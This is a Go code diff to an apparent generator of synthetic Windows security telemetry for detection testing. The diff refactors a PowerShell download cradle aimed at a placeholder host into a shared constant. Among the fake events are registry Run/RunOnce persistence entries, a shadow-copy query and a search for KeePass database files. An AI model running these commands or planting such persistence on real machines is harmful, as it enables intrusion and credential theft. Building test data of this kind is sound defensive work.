@@ -115,7 +115,8 @@ func network(g *gen, c *ctx) map[string]any {
 var registryKeys = []struct{ key, name, data string }{
 	{`\registry\machine\software\microsoft\windows\currentversion\run`, "Updater",
 		`c:\users\public\svcmgr.exe -s`},
-	{`\registry\user\s-1-5-21-3623811015-3361044348-30300820-1104\software\microsoft\windows\currentversion\runonce`,
+	{`\registry\user\s-1-5-21-3623811015-3361044348-30300820-1104` +
+		`\software\microsoft\windows\currentversion\runonce`,
 		"cleanup", `rundll32.exe c:\users\public\x.dll,Start`},
 	{`\registry\machine\system\controlset001\services\examplesvc`, "ImagePath",
 		`c:\windows\system32\svchost.exe -k netsvcs`},
@@ -148,7 +149,8 @@ func wmiActivity(g *gen, c *ctx) map[string]any {
 	q := []string{"select * from win32_process", "select id from win32_serverfeature",
 		"select * from win32_shadowcopy"}[g.pick(3)]
 	return map[string]any{
-		"version": 1, "etwEventId": 11, "operation": "start iwbemservices::execquery - root\\cimv2 : " + q,
+		"version": 1, "etwEventId": 11,
+		"operation":     "start iwbemservices::execquery - root\\cimv2 : " + q,
 		"namespaceName": `\\.\root\cimv2`, "hostPid": 4 * (100 + g.pick(400)),
 		"clientPid": 4 * (100 + g.pick(4000)), "clientMachine": c.host.name,
 		"clientMachineFqn": strings.ToLower(c.host.name) + ".corp.example", "isLocal": true,
@@ -244,7 +246,7 @@ func amsi(g *gen, c *ctx) map[string]any {
 		"appName": "PowerShell_" + progPwsh.path + "_10.0.19041.1", "scanResult": g.pick(2),
 		"contentSize": 5186, "originalSize": 5186,
 		"contentName": `c:\users\` + c.user + `\appdata\local\temp\setup.ps1`,
-		"content":     "IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad-example.net/a')",
+		"content":     downloadCradle,
 	}
 }
 
@@ -257,10 +259,13 @@ func mitre(g *gen, c *ctx) map[string]any {
 	return map[string]any{"technique": t.id, "tactics": t.tactics, "relevance": 40 + g.pick(60)}
 }
 
+const downloadCradle = "IEX (New-Object Net.WebClient).DownloadString(" +
+	"'http://cdn.bad-example.net/a')"
+
 func scriptBlock(g *gen, c *ctx) map[string]any {
 	c.prog = progPwsh
 	text := []string{"Get-Process | Where-Object { $_.CPU -gt 100 }",
-		"IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad-example.net/a')",
+		downloadCradle,
 		"Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx"}[g.pick(3)]
 	return map[string]any{
 		"tid": 4 * (100 + g.pick(4000)), "scriptBlockText": text, "scriptBlockSize": len(text),
